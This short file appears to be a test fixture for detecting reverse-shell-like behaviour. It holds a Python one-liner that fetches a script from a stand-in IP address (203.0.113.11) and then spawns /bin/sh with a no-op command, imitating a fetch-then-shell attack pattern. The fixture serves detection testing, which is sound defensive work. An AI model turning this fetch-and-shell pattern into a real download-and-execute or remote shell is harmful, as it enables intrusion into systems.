# SPDX-License-Identifier: Apache-2.0
# A program fetches from a registry, then runs a command by a shell.
# like: reverse-shell
# needs: python3
call c1 'python3 -c "
import subprocess, urllib.request
urllib.request.urlopen(\"http://203.0.113.11/install.py\").read()
subprocess.call([\"/bin/sh\", \"-c\", \"true\"])
"'
